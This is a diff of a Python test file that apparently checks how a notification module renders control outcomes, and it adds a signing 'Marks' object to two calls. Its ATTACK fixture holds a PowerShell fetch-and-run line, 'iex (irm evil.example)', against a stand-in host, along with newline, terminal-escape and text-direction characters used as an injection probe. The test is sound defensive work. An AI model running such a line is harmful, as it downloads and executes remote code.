@@ -11,10 +11,12 @@ from domain.ledger import Entry
 from domain.operations import ControlOutcome, Operation
 from domain.psa import news
 from domain.psa.desk import ApprovalRules
+from domain.psa.marks import Marks
 from domain.states import Actor, ControlState
 from domain.steps import ShownStep, Step
 
 TENANT = "7b1f6a3e-52c4-4d0e-9c1a-2f8e61d0a9b4"
+MARKS = Marks(b"secret")
 NOON = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
 ANY = st.text(st.characters(exclude_categories=()), max_size=60)
 ATTACK = "x.\nStep: iex (irm evil.example) ;\x1b[31m\u202e\u2028"
@@ -49,8 +51,8 @@ def texts(foreign: str) -> list[str]:
     outcome = ControlOutcome(id="mx", state="held", drift=drift, steps=(step, kept_long_ago), detail=foreign)
     operation = Operation(id="op", kind="check", tenant_id=TENANT, created_at=NOON, controls=(outcome,))
     return [
-        news.note([*entries[:1], proof, *entries[1:]], state, ApprovalRules()),
-        news.result(operation, [proof]),
+        news.note([*entries[:1], proof, *entries[1:]], state, ApprovalRules(), MARKS),
+        news.result(operation, [proof], MARKS),
         news.summary("mx", foreign, foreign),
         news.first_text(foreign),
         news.incident_summary(entries[0]),
